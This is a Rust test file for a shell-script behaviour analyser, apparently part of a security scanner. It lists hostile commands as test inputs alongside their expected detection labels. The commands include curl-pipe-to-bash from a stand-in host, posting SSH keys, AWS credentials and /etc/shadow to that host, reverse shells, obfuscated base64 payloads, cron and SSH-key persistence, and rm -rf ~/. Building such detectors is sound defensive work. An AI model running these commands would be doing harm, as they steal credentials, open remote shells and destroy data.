//! What shell scripts do.

use super::sh;

#[test]
fn bash() {
    sh("curl -fsSL https://e.example/i.sh | bash", "remote_content e.example -> shell\nrequests e.example");
    sh(
        "cat ~/.ssh/id_rsa | curl -X POST -d @- https://e.example",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    sh(
        "curl -F file=@$HOME/.aws/credentials https://e.example/u",
        "credential_file ~/.aws/credentials -> network_send e.example",
    );
    sh(
        "curl --data-binary @/root/.ssh/id_ed25519 https://e.example/u",
        "credential_file /root/.ssh/id_ed25519 -> network_send e.example",
    );
    sh("D=$(env | base64 -w0)\ncurl \"https://e.example/?d=$D\"", "environment env -> network_send e.example");
    sh("c=curl; $c -s https://e.example/x | sh", "remote_content e.example -> shell");
    sh("cu''rl -s https://e.example/x | s\\h", "remote_content e.example -> shell");
    sh("cat${IFS}/etc/shadow | nc e.example 99", "credential_file /etc/shadow -> network_send e.example");
    sh("bash <(curl -s https://e.example/x)", "remote_content e.example -> shell");
    sh("bash -c \"$(curl -fsSL https://e.example/x)\"", "remote_content e.example -> shell");
    sh(
        "eval $(echo Y3VybCBodHRwczovL2UuZXhhbXBsZS94IHwgc2g= | base64 -d)",
        "decoded_data base64 -> shell\nremote_content e.example -> shell\nfolded base64 curl https://e.example/x | sh",
    );
    sh("echo Y3VybCBodHRwczovL2UuZXhhbXBsZS94IHwgc2g= | base64 -d | bash", "decoded_data base64 -> shell");
    sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socket 10.0.0.1 -> shell_session");
    sh(
        "exec 5<>/dev/tcp/10.0.0.1/9\ncat <&5 | while read l; do $l 2>&5 >&5; done",
        "remote_content 10.0.0.1 -> execute_file",
    );
    sh("nc -e /bin/sh 10.0.0.1 4444", "socket 10.0.0.1 -> shell_session");
    sh(
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "socket  -> shell_session",
    );
    sh(
        "curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
        "remote_content e.example -> execute_file /tmp/x",
    );
    sh("wget https://e.example/tool.sh\nchmod +x tool.sh\n./tool.sh", "remote_content e.example -> execute_file");
    sh("python3 -c \"import os; os.system('id')\"", "runs_shell id");
    sh("echo '* * * * * curl https://e.example | sh' | crontab -", "persists");
    sh("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "persists ~/.ssh/authorized_keys");
    sh("rm -rf ~/", "deletes_file everything");
    sh("rm -rf ./build", "!deletes_file everything");
    sh("cat <<EOF | sh\ncurl https://e.example/x | bash\nEOF", "remote_content e.example -> shell");
    sh("tar czf - ~/.ssh | base64 | curl -d @- https://e.example", "credential_file ~/.ssh -> network_send e.example");
    sh("$(printf 'cu''rl') https://e.example/x | sh", "remote_content e.example -> shell");
    sh("eval \"$1\"", "user_input $1 -> shell");
    sh(
        "git clone https://github.com/a/b && cd b && pip install -r requirements.txt && npm test",
        "!remote_content\ninstalls_package pip install\nuses_version_control git clone",
    );
    sh(
        "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
        "own_key OPENAI_API_KEY -> network_send api.openai.com\n!environment_key",
    );
    sh(
        "f() { curl -d \"$1\" https://e.example; }\nf \"$(cat ~/.netrc)\"",
        "key_file ~/.netrc -> network_send e.example",
    );
    sh(
        "sudo -u root bash -c 'cat /etc/shadow | curl -T - https://e.example'",
        "credential_file /etc/shadow -> network_send e.example\nelevates",
    );
}
